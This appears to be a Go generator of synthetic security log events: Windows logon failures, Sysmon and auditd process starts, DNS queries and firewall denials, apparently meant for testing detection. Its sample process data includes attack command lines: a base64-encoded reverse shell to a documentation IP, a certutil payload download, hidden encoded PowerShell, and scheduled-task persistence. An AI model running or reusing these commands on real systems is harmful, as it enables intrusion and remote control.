package gen

import "strconv"

var (
	departments = []string{"FIN", "HR", "ENG", "OPS", "MKT", "LEG", "ITS", "SAL"}

	windowsServers = []string{
		"dc01.corp.example.com", "dc02.corp.example.com", "sql-prod-03.corp.example.com",
		"exch01.corp.example.com", "fs02.corp.example.com", "rds-gw01.corp.example.com",
	}
	linuxServers = []string{
		"web-01.dmz.example.net", "web-02.dmz.example.net", "jump01.corp.example.com",
		"build-agent-07.eng.example.org", "k8s-node-12.prod.example.org", "db-pg-02.prod.example.org",
		"mail-relay-01.dmz.example.net", "vpn-gw-01.corp.example.com",
	}
	windowsOS = []osInfo{
		{"Windows 10 Enterprise", "10.0"},
		{"Windows 11 Enterprise", "10.0"},
	}
	windowsServerOS = []osInfo{
		{"Windows Server 2019 Datacenter", "10.0"},
		{"Windows Server 2022 Standard", "10.0"},
	}
	linuxOS = []osInfo{
		{"Ubuntu", "22.04.4 LTS (Jammy Jellyfish)"},
		{"Red Hat Enterprise Linux", "9.3 (Plow)"},
		{"Debian GNU/Linux", "12 (bookworm)"},
	}

	users = []string{
		"jsmith", "a.kowalski", "mgarcia", "lchen", "p.okafor", "s.nakamura", "rbrown", "e.dubois",
		"k.osei", "t.nguyen", "administrator", "svc_backup", "svc_sql", "helpdesk01", "guest",
	}
	linuxUsers = []string{"root", "deploy", "ubuntu", "jenkins", "postgres", "www-data", "ansible"}
	// Names tried by password sprays against Windows logons.
	sprayUsers = []string{"admin", "administrator", "test", "user1", "scanner", "backup", "sql"}

	logonFailures = []struct{ status, subStatus string }{
		{"0xc000006d", "0xc000006a"}, // bad password
		{"0xc000006d", "0xc0000064"}, // no such user
		{"0xc000006e", "0xc0000072"}, // account disabled
		{"0xc0000234", "0x0"},        // account locked out
		{"0xc000006e", "0xc0000071"}, // password expired
	}
	logonTypes = []string{"Network", "RemoteInteractive", "Interactive", "NetworkCleartext"}

	windowsProcs = []proc{
		{`powershell.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			`powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\backup.ps1`},
		{`powershell.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`},
		{`cmd.exe`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c "whoami /all > %TEMP%\w.txt"`},
		{`rundll32.exe`, `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\update.dll,DllRegisterServer`},
		{`certutil.exe`, `C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -f http://198.51.100.23/p.bin p.bin`},
		{`OUTLOOK.EXE`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `OUTLOOK.EXE /recycle`},
		{`chrome.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, `chrome.exe --type=renderer --lang=en-US`},
		{`schtasks.exe`, `C:\Windows\System32\schtasks.exe`, `schtasks.exe /create /tn "Updater" /tr C:\Users\Public\upd.exe /sc hourly`},
		{`net.exe`, `C:\Windows\System32\net.exe`, `net.exe group "Domain Admins" /domain`},
		{`msiexec.exe`, `C:\Windows\System32\msiexec.exe`, `msiexec.exe /i \\fs02.corp.example.com\deploy\agent-7.4.2.msi /qn`},
	}
	windowsParents = []proc{
		{`explorer.exe`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
		{`svchost.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
		{`WINWORD.EXE`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n`},
		{`services.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	}
	linuxProcs = []proc{
		{`curl`, `/usr/bin/curl`, `curl -fsSL https://pkg.example.org/install.sh -o /tmp/install.sh`},
		{`bash`, `/usr/bin/bash`, `bash -c "echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjkvNDQzIDA+JjE= | base64 -d | bash"`},
		{`ssh`, `/usr/bin/ssh`, `ssh -o StrictHostKeyChecking=no deploy@10.20.4.17 "sudo systemctl restart app"`},
		{`python3`, `/usr/bin/python3.10`, `python3 /opt/app/manage.py migrate --noinput`},
		{`sudo`, `/usr/bin/sudo`, `sudo -u postgres psql -c "SELECT pg_reload_conf();"`},
		{`crontab`, `/usr/bin/crontab`, `crontab -l`},
		{`nc`, `/usr/bin/nc.openbsd`, `nc -zv 10.20.0.5 22 3389 5985`},
		{`tar`, `/usr/bin/tar`, `tar czf /var/backups/etc-nightly.tgz /etc`},
	}
	linuxParents = []proc{
		{`bash`, `/usr/bin/bash`, `-bash`},
		{`sshd`, `/usr/sbin/sshd`, `sshd: deploy@pts/0`},
		{`cron`, `/usr/sbin/cron`, `/usr/sbin/cron -f -P`},
		{`java`, `/usr/lib/jvm/java-17-openjdk-amd64/bin/java`, `java -jar /usr/share/jenkins/jenkins.war`},
	}

	dnsNames = []string{
		"www.example.com", "login.example.com", "mail.example.net", "cdn.example.org", "api.example.com",
		"intranet.corp.example.com", "wpad.corp.example.com", "_ldap._tcp.dc._msdcs.corp.example.com",
		"update-check.acme-cdn.example", "telemetry.widgetsoft.test", "files.sharebox.example",
		"a8f3kd92qz.dyn-relay.test", "x7q2mv0rpl.dyn-relay.test", "portal.payroll-online.example",
		"login-secure-verify.example.net", "time.example.org",
	}
	dnsTypes  = []string{"A", "A", "A", "AAAA", "AAAA", "CNAME", "TXT", "MX", "SRV", "PTR"}
	dnsRcodes = []string{"NOERROR", "NOERROR", "NOERROR", "NOERROR", "NXDOMAIN", "SERVFAIL"}

	firewalls = []struct{ host, vendor, product, module, dataset, agentType string }{
		{"fw-edge-01", "Palo Alto Networks", "PAN-OS", "panw", "panw.panos", "filebeat"},
		{"fw-dc-02", "Fortinet", "FortiGate", "fortinet_fortigate", "fortinet_fortigate.log", "filebeat"},
		{"asa-branch-07", "Cisco", "ASA", "cisco_asa", "cisco_asa.log", "filebeat"},
	}
	fwRules  = []string{"deny-inbound-default", "block-known-bad", "geo-block", "deny-smb-egress", "quarantine-vlan"}
	fwZones  = []string{"untrust", "trust", "dmz", "guest", "vpn"}
	fwPorts  = []int{22, 23, 25, 53, 80, 123, 135, 139, 443, 445, 1433, 3306, 3389, 5900, 8080, 8443}
	testNets = [][3]byte{{192, 0, 2}, {198, 51, 100}, {203, 0, 113}}

	agentVersions = []string{"8.11.3", "8.12.2", "8.13.4"}
)

type osInfo struct{ name, version string }

type proc struct{ name, executable, commandLine string }

// host is a generated host: a name and what runs on it.
type host struct {
	name    []byte // in Generator.name
	windows bool
	os      osInfo
	ip      ipv4
}

func (g *Generator) host(windows bool) host {
	r := &g.rng
	h := host{windows: windows, name: g.name[:0]}
	switch {
	case windows && r.intn(4) > 0:
		// A workstation such as WS-FIN-0142.
		h.name = append(h.name, "WS-"...)
		h.name = append(h.name, pick(r, departments)...)
		h.name = append(h.name, '-')
		num := r.between(1, 2400)
		h.name = append(h.name, byte('0'+num/1000), byte('0'+num/100%10), byte('0'+num/10%10), byte('0'+num%10))
		h.os = pick(r, windowsOS)
		h.ip = privateIP(r)
	case windows:
		h.name = append(h.name, pick(r, windowsServers)...)
		h.os = pick(r, windowsServerOS)
		h.ip = ipv4{10, 10, byte(r.intn(4)), byte(r.between(2, 250))}
	default:
		h.name = append(h.name, pick(r, linuxServers)...)
		h.os = pick(r, linuxOS)
		h.ip = ipv4{10, 20, byte(r.intn(8)), byte(r.between(2, 250))}
	}
	return h
}

type ipv4 [4]byte

func (ip ipv4) append(b []byte) []byte {
	for i, o := range ip {
		if i > 0 {
			b = append(b, '.')
		}
		b = strconv.AppendUint(b, uint64(o), 10)
	}
	return b
}

// privateIP returns an address in one of the RFC 1918 ranges.
func privateIP(r *rng) ipv4 {
	switch r.intn(3) {
	case 0:
		return ipv4{10, byte(r.intn(40)), byte(r.intn(256)), byte(r.between(2, 254))}
	case 1:
		return ipv4{172, byte(r.between(16, 31)), byte(r.intn(256)), byte(r.between(2, 254))}
	default:
		return ipv4{192, 168, byte(r.intn(16)), byte(r.between(2, 254))}
	}
}

// publicIP returns an address in one of the RFC 5737 documentation ranges.
func publicIP(r *rng) ipv4 {
	n := pick(r, testNets)
	return ipv4{n[0], n[1], n[2], byte(r.between(1, 254))}
}

func (g *Generator) failedLogon(b []byte) []byte {
	r := &g.rng
	h := g.host(true)
	user := pick(r, users)
	if r.intn(3) == 0 {
		user = pick(r, sprayUsers)
	}
	f := pick(r, logonFailures)
	lt := pick(r, logonTypes)
	src := privateIP(r)
	if r.intn(2) == 0 {
		src = publicIP(r)
	}
	b = append(b, `"event":{"kind":"event","category":["authentication"],"type":["start"],"action":"logon-failed","outcome":"failure","code":"4625","module":"windows","dataset":"windows.security"},`...)
	b = append(b, `"message":"An account failed to log on.","user":{"name":`...)
	b = appendString(b, user)
	b = append(b, `,"domain":"CORP"},"source":{"ip":"`...)
	b = src.append(b)
	b = append(b, `","port":`...)
	b = strconv.AppendInt(b, int64(r.between(49152, 65535)), 10)
	b = append(b, `},"winlog":{"channel":"Security","event_id":"4625","logon":{"type":"`...)
	b = append(b, lt...)
	b = append(b, `","failure":{"status":"`...)
	b = append(b, f.status...)
	b = append(b, `","sub_status":"`...)
	b = append(b, f.subStatus...)
	b = append(b, `"}}},`...)
	return g.appendHost(b, h, "winlogbeat")
}

func (g *Generator) processStart(b []byte) []byte {
	r := &g.rng
	windows := r.intn(3) > 0
	h := g.host(windows)
	var p, parent proc
	var user string
	if windows {
		p, parent, user = pick(r, windowsProcs), pick(r, windowsParents), pick(r, users)
		b = append(b, `"event":{"kind":"event","category":["process"],"type":["start"],"action":"Process Create (rule: ProcessCreate)","code":"1","module":"windows","dataset":"windows.sysmon_operational"},`...)
	} else {
		p, parent, user = pick(r, linuxProcs), pick(r, linuxParents), pick(r, linuxUsers)
		b = append(b, `"event":{"kind":"event","category":["process"],"type":["start"],"action":"executed","outcome":"success","module":"auditd","dataset":"auditd.log"},`...)
	}
	b = append(b, `"process":{"pid":`...)
	b = strconv.AppendInt(b, int64(r.between(300, 65000)), 10)
	b = append(b, `,"name":`...)
	b = appendString(b, p.name)
	b = append(b, `,"executable":`...)
	b = appendString(b, p.executable)
	b = append(b, `,"command_line":`...)
	b = appendString(b, p.commandLine)
	b = append(b, `,"parent":{"pid":`...)
	b = strconv.AppendInt(b, int64(r.between(4, 30000)), 10)
	b = append(b, `,"name":`...)
	b = appendString(b, parent.name)
	b = append(b, `}},"user":{"name":`...)
	b = appendString(b, user)
	if windows {
		b = append(b, `,"domain":"CORP"},`...)
		return g.appendHost(b, h, "winlogbeat")
	}
	b = append(b, `,"id":"`...)
	b = strconv.AppendInt(b, int64(r.between(1000, 1100)), 10)
	b = append(b, `"},"auditd":{"session":"`...)
	b = strconv.AppendInt(b, int64(r.between(1, 9999)), 10)
	b = append(b, `","summary":{"how":`...)
	b = appendString(b, p.executable)
	b = append(b, `}},`...)
	return g.appendHost(b, h, "auditbeat")
}

func (g *Generator) dnsQuery(b []byte) []byte {
	r := &g.rng
	h := g.host(r.intn(2) == 0)
	name := pick(r, dnsNames)
	b = append(b, `"event":{"kind":"event","category":["network"],"type":["connection","protocol"],"action":"dns-query","outcome":"success","module":"network_traffic","dataset":"network_traffic.dns"},"dns":{"type":"query","id":`...)
	b = strconv.AppendInt(b, int64(r.intn(65536)), 10)
	b = append(b, `,"response_code":"`...)
	b = append(b, pick(r, dnsRcodes)...)
	b = append(b, `","question":{"name":`...)
	b = appendString(b, name)
	b = append(b, `,"type":"`...)
	b = append(b, pick(r, dnsTypes)...)
	b = append(b, `","class":"IN"}},"source":{"ip":"`...)
	b = h.ip.append(b)
	b = append(b, `","port":`...)
	b = strconv.AppendInt(b, int64(r.between(1024, 65535)), 10)
	b = append(b, `},"destination":{"ip":"10.10.0.`...)
	b = strconv.AppendInt(b, int64(r.between(10, 11)), 10)
	b = append(b, `","port":53},"network":{"transport":"udp","protocol":"dns","direction":"egress"},`...)
	return g.appendHost(b, h, "packetbeat")
}

func (g *Generator) firewallDeny(b []byte) []byte {
	r := &g.rng
	fw := pick(r, firewalls)
	src, dst := publicIP(r), privateIP(r)
	direction := "inbound"
	if r.intn(3) == 0 {
		src, dst, direction = privateIP(r), publicIP(r), "outbound"
	}
	transport := "tcp"
	if r.intn(5) == 0 {
		transport = "udp"
	}
	b = append(b, `"event":{"kind":"event","category":["network"],"type":["connection","denied"],"action":"deny","outcome":"success","module":"`...)
	b = append(b, fw.module...)
	b = append(b, `","dataset":"`...)
	b = append(b, fw.dataset...)
	b = append(b, `"},"observer":{"vendor":`...)
	b = appendString(b, fw.vendor)
	b = append(b, `,"product":"`...)
	b = append(b, fw.product...)
	b = append(b, `","type":"firewall","hostname":"`...)
	b = append(b, fw.host...)
	b = append(b, `","ingress":{"zone":"`...)
	b = append(b, pick(r, fwZones)...)
	b = append(b, `"}},"rule":{"name":"`...)
	b = append(b, pick(r, fwRules)...)
	b = append(b, `"},"source":{"ip":"`...)
	b = src.append(b)
	b = append(b, `","port":`...)
	b = strconv.AppendInt(b, int64(r.between(1024, 65535)), 10)
	b = append(b, `},"destination":{"ip":"`...)
	b = dst.append(b)
	b = append(b, `","port":`...)
	b = strconv.AppendInt(b, int64(pick(r, fwPorts)), 10)
	b = append(b, `},"network":{"transport":"`...)
	b = append(b, transport...)
	b = append(b, `","direction":"`...)
	b = append(b, direction...)
	b = append(b, `"},`...)
	// host and agent are those of the collector that read the syslog feed.
	h := host{name: append(g.name[:0], "collector01.corp.example.com"...), os: linuxOS[0], ip: ipv4{10, 20, 0, 5}}
	return g.appendHost(b, h, fw.agentType)
}

// appendHost appends the host and agent objects, ending the event's fields.
func (g *Generator) appendHost(b []byte, h host, agentType string) []byte {
	r := &g.rng
	b = append(b, `"host":{"name":"`...)
	b = append(b, h.name...)
	b = append(b, `","ip":["`...)
	b = h.ip.append(b)
	b = append(b, `"],"os":{"family":"`...)
	if h.windows {
		b = append(b, `windows`...)
	} else {
		b = append(b, `linux`...)
	}
	b = append(b, `","name":`...)
	b = appendString(b, h.os.name)
	b = append(b, `,"version":`...)
	b = appendString(b, h.os.version)
	b = append(b, `}},"agent":{"type":"`...)
	b = append(b, agentType...)
	b = append(b, `","version":"`...)
	b = append(b, pick(r, agentVersions)...)
	b = append(b, `"}`...)
	return b
}

// appendString appends s as a JSON string.
func appendString(b []byte, s string) []byte {
	b = append(b, '"')
	b = appendEscaped(b, s)
	return append(b, '"')
}

// appendEscaped appends s escaped for a JSON string. The generator's own
// strings are ASCII without control characters: only '"' and '\\' need it.
func appendEscaped(b []byte, s string) []byte {
	run := 0
	for i := 0; i < len(s); i++ {
		if c := s[i]; c == '"' || c == '\\' {
			b = append(b, s[run:i]...)
			b = append(b, '\\', c)
			run = i + 1
		}
	}
	return append(b, s[run:]...)
}
